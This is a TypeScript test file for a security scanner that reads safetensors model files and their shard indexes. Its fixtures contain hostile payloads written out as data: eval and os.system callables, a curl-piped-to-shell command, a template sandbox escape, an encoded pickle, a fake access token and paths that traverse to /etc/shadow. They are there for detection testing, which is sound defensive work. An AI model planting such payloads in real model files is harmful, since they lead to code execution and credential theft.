// safetensors: what the header says against the file, and what hides in either.
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { Bytes } from '../../src/artifacts/bytes.js'
import index from '../../src/artifacts/formats/safetensors-index.js'
import format from '../../src/artifacts/formats/safetensors.js'
import { opened } from './open.js'
import { concat, safetensors, text, uint } from './tensors-builder.js'

const tensor = (begin: number, end: number, dtype = 'F32', shape = [(end - begin) / 4]): object => ({ dtype, shape, data_offsets: [begin, end] })

async function read(data: Uint8Array | Bytes, name = 'model.safetensors') {
  const file = await opened(name, data)
  expect(format.recognise(file)).toBe(3)
  const { props } = await format.read(file)
  return { ...props, unread: file.unread }
}

describe('safetensors', () => {
  it('tells what is in a sound file', async () => {
    const props = await read(safetensors({ __metadata__: { format: 'pt' }, 'a.weight': tensor(0, 16), b: tensor(16, 20, 'F16', [2]) }, 20))
    expect(props).toMatchObject({ tensors: 2, parameters: 6, dtypes: [{ dtype: 'F16', tensors: 1, parameters: 2 }, { dtype: 'F32', tensors: 1, parameters: 4 }], metadata: [{ name: 'format', value: 'pt' }] })
    expect([props.headerFaults, props.bufferFaults, props.suspiciousMetadata, props.unread]).toEqual([[], [], [], []])
  })

  it('takes spaces behind the header and tensors of no bytes', async () => {
    const props = await read(safetensors(`${JSON.stringify({ a: tensor(0, 4), none: tensor(4, 4, 'F32', [0]) })}   `, 4))
    expect([props.headerFaults, props.bufferFaults, props.unread]).toEqual([[], [], []])
    expect((await read(safetensors('{}'))).headerFaults).toEqual([])
  })

  it.each<[string, Uint8Array, RegExp]>([
    ['a key twice', safetensors(`{"a":${JSON.stringify(tensor(0, 4))},"a":${JSON.stringify(tensor(0, 4))}}`, 4), /is there twice/],
    ['a key twice within an entry', safetensors('{"a":{"dtype":"F32","dtype":"F16","shape":[1],"data_offsets":[0,4]}}', 4), /has a key twice/],
    ['an unknown dtype', safetensors({ a: tensor(0, 4, 'Q4', [1]) }, 4), /dtype Q4/],
    ['a shape of another size', safetensors({ a: tensor(0, 4, 'F32', [2]) }, 4), /is 8 bytes, its range 4/],
    ['a shape that overflows', safetensors({ a: tensor(0, 4, 'F32', [4294967296, 4294967296, 16]) }, 4), /overflows/],
    ['negative offsets', safetensors({ a: tensor(-4, 0) }, 4), /not negative/],
    ['an end before the start', safetensors({ a: tensor(8, 4, 'F32', [1]) }, 8), /before it begins/],
    ['metadata that is no text', safetensors({ __metadata__: { step: 7 } }), /is no string/],
    ['a header that goes on', safetensors('{} {}'), /goes on after its end/],
    ['a header cut short', safetensors('{"a":{"dty'), /is JSON that ends within a string|is no JSON/],
    ['bytes that are no UTF-8', concat(uint(6, 8), text('{"'), Uint8Array.of(0xff, 0xfe), text('":')), /not UTF-8/],
    ['a control character', safetensors('{"a\nb":1}'), /control character/],
    ['deep nesting', safetensors(`{"a":${'['.repeat(50)}${']'.repeat(50)}}`), /is no object/],
    ['white space before the brace', concat(uint(3, 8), text(' {}')), /white space/],
  ])('%s is a fault of the header', async (_, data, detail) => {
    const { props } = await format.read(await opened('model.safetensors', data))
    expect(props.headerFaults.map((sign) => sign.detail).join('\n')).toMatch(detail)
  })

  it.each([
    ['more than there is', safetensors('{}', 0, { length: 1000 })],
    ['more than the format allows', safetensors('{}', 0, { length: 2n ** 63n })],
  ])('a length of %s is a fault, and nothing else was read', async (_, data) => {
    const props = await read(data)
    expect(props.headerFaults).toHaveLength(1)
    expect(props.unread).toMatchObject([{ reason: 'malformed' }])
  })

  it('finds holes, overlaps and what is behind the last tensor', async () => {
    const holes = await read(safetensors({ a: tensor(0, 4), b: tensor(12, 16) }, 24))
    expect(holes.bufferFaults.map(({ what }) => what)).toEqual(['hole of 8 bytes', '8 bytes after the last tensor'])
    const overlap = await read(safetensors({ a: tensor(0, 8), b: tensor(4, 12) }, 12))
    expect(overlap.bufferFaults.map(({ what }) => what)).toEqual(['overlap of 4 bytes'])
    expect((await read(safetensors({ a: tensor(0, 16) }, 8))).bufferFaults.map(({ what }) => what)).toEqual(['8 bytes missing'])
  })

  it('reads entries over the edges of its pieces', async () => {
    const entries = Array.from({ length: 3000 }, (_, i) => [`layer.${i}.${'x'.repeat(i % 90)}`, tensor(i * 4, i * 4 + 4)] as const)
    const long = 'y'.repeat(300_000)
    const props = await read(safetensors({ __metadata__: { long }, ...Object.fromEntries(entries) }, 12_000))
    expect(props).toMatchObject({ tensors: 3000, parameters: 3000, headerFaults: [], bufferFaults: [], unread: [] })
  })

  it('reads ten gigabytes by their header', async () => {
    const size = 10 * 2 ** 30
    const count = 400
    const each = size / count - (size / count) % 4
    const head = safetensors(Object.fromEntries(Array.from({ length: count }, (_, i) => [`t${i}`, tensor(i * each, (i + 1) * each)])))
    let reads = 0
    let asked = 0
    const bytes: Bytes = {
      size: head.length + each * count,
      read: (offset, length) => {
        reads += 1
        asked += length
        const part = new Uint8Array(length)
        part.set(head.subarray(offset, offset + length))
        return part
      },
    }
    const props = await read(bytes)
    expect(props).toMatchObject({ tensors: count, bufferFaults: [], headerFaults: [] })
    expect(reads).toBeLessThan(8)
    expect(asked).toBeLessThan(2 ** 18)
  })

  const pickle = btoa(String.fromCharCode(0x80, 4, 0x95, ...new Uint8Array(30), 0x2e))
  it.each([
    ['a callable', { config: JSON.stringify({ model: { _target_: 'builtins.eval', _args_: ['1'] } }) }, '_target_: builtins.eval'],
    ['a callable in JSON in JSON', { config: JSON.stringify({ inner: JSON.stringify({ _target_: 'os.system' }) }) }, '_target_: os.system'],
    ['a callable by its key', { _target_: 'os.system' }, '_target_: os.system'],
    ['Python', { note: `import o${'s'}; o${'s'}.sys${'tem'}("echo hi")` }, 'Python that starts programs'],
    ['a shell command', { run: `cu${'rl'} http://example.org/x | s${'h'}` }, 'download that is run at once'],
    ['a template', { chat: "{{ ''.__class__.__mro__ }}" }, 'template that leaves its sandbox'],
    ['a pickle', { blob: pickle }, 'encoded pickle'],
    ['a key', { token: `hf_${'abcdefghij'.repeat(3)}KLMN` }, 'credential: hugging-face-token'],
  ])('%s in the metadata is told', async (_, metadata, what) => {
    const props = await read(safetensors({ __metadata__: metadata }))
    expect(props.suspiciousMetadata.map((sign) => sign.what)).toContain(what)
  })

  it('keeps still on what trainers write', async () => {
    const metadata = {
      format: 'pt', ss_tag_frequency: JSON.stringify({ 'data/10_apples': { 'a red apple': 10, 'import (company)': 3, 'evaluate (song)': 1 } }), ss_session_id: '3141592653',
      'modelspec.implementation': 'https://github.com/example/sd', 'modelspec.hash_sha256': `0x${'0a'.repeat(32)}`, ss_learning_rate: '0.0001', sshash_legacy: 'a1b2c3d4', quantization: '{"bits": 4}',
    }
    expect((await read(safetensors({ __metadata__: metadata }))).suspiciousMetadata).toEqual([])
  })

  it('knows adapters and packed weights', async () => {
    expect(await read(safetensors({ 'q.lora_A.weight': tensor(0, 4) }, 4))).toMatchObject({ adapter: true, quantisation: null })
    expect(await read(safetensors({ 'q.qweight': tensor(0, 4, 'I32', [1]), 'q.g_idx': tensor(4, 8, 'I32', [1]) }, 8))).toMatchObject({ quantisation: 'gptq' })
  })

  it.each(['package.json', 'x.txt', 'image.png'])('is not %s', async (name) => {
    for (const data of ['{"name":"x"}', 'abcdefgh{"x', '\u0089PNG\r\n\u001a\n{']) expect(format.recognise(await opened(name, text(data)))).toBe(0)
  })

  it('survives every cut and every flipped byte', async () => {
    const sound = safetensors({ __metadata__: { format: 'pt' }, a: tensor(0, 4) }, 4)
    for (let i = 0; i <= sound.length; i++) await format.read(await opened('x.safetensors', sound.subarray(0, i)))
    for (let i = 0; i < sound.length; i++) {
      const broken = sound.slice()
      broken[i] = (broken[i] ?? 0) ^ 0xff
      await format.read(await opened('x.safetensors', broken))
    }
  })
})

describe('safetensors index', () => {
  const one = safetensors({ a: tensor(0, 4) }, 4)
  const two = safetensors({ b: tensor(0, 8) }, 8)
  const names = ['model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors'] as const
  const sound = { metadata: { total_size: 12 }, weight_map: { a: names[0], b: names[1] } }
  async function mismatches(document: object | string, siblings: Record<string, Uint8Array | 'outside'> = { [`m/${names[0]}`]: one, [`m/${names[1]}`]: two }) {
    const file = await opened('m/model.safetensors.index.json', text(typeof document === 'string' ? document : JSON.stringify(document)), { siblings })
    expect(index.recognise(file)).toBe(3)
    const { props } = await index.read(file)
    return { all: props.mismatches.map(({ what, detail }) => `${what} ${detail}`), unread: file.unread }
  }

  it('agrees with its shards', async () => {
    expect(await mismatches(sound)).toEqual({ all: [], unread: [] })
  })

  it.each<[string, object | string, RegExp, Record<string, Uint8Array | 'outside'>?]>([
    ['a shard that is not there', sound, /00002.* is not there/, { [`m/${names[0]}`]: one }],
    ['a way out', { ...sound, weight_map: { a: '../../etc/shadow' } }, /leads out of the folder/],
    ['an absolute path', { ...sound, weight_map: { a: '/etc/shadow' } }, /absolute/],
    ['an address', { ...sound, weight_map: { a: 'https://example.org/a.safetensors' } }, /address/],
    ['a link out', sound, /link that leads out/, { [`m/${names[0]}`]: one, [`m/${names[1]}`]: 'outside' }],
    ['another size', { ...sound, metadata: { total_size: 13 } }, /says 13 bytes, the shards hold 12/],
    ['a tensor that is nowhere', { ...sound, weight_map: { ...sound.weight_map, c: names[1] } }, /c is not in the shard/],
    ['a tensor that is not listed', { metadata: {}, weight_map: { a: names[0] } }, /00002.* lies in the folder, but is not in the index/],
    ['a pickle among the shards', { ...sound, weight_map: { a: 'evil.bin' } }, /is no safetensors file/, { 'm/evil.bin': one }],
    ['a tensor twice', `{"weight_map":{"a":"${names[0]}","a":"${names[1]}","b":"${names[1]}"}}`, /is there twice/],
  ])('tells %s', async (_, document, wanted, siblings) => {
    expect((await mismatches(document, siblings)).all.join('\n')).toMatch(wanted)
  })

  it('does not know about shards that were not fetched', async () => {
    const pointer = text(`version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`)
    expect(await mismatches(sound, { [`m/${names[0]}`]: one, [`m/${names[1]}`]: pointer })).toMatchObject({ all: [], unread: [{ reason: 'unreadable' }] })
  })
})

const folder = join(process.env['AISPM_SAMPLES'] ?? '', 'safetensors')
if (process.env['AISPM_SAMPLES'] === undefined || !existsSync(folder)) it.skip('safetensors samples: AISPM_SAMPLES names no folder with any', () => {})
else {
  describe('safetensors of its own library', () => {
    it.each([['plain.safetensors', 41, 40 * 128 + 1600], ['empty.safetensors', 0, 0], ['adapter.safetensors', 1, 32]])('%s', async (name, tensors, parameters) => {
      expect(await read(readFileSync(join(folder, name)))).toMatchObject({ tensors, parameters, headerFaults: [], bufferFaults: [], suspiciousMetadata: [], unread: [] })
    })
    it('sharded', async () => {
      const at = (name: string): Uint8Array => readFileSync(join(folder, 'sharded', name))
      const shards = ['model-00001-of-00002.safetensors', 'model-00002-of-00002.safetensors']
      const file = await opened('model.safetensors.index.json', at('model.safetensors.index.json'), { siblings: Object.fromEntries(shards.map((name) => [name, at(name)])) })
      expect((await index.read(file)).props).toMatchObject({ tensors: 41, shards, mismatches: [] })
    })
  })
}
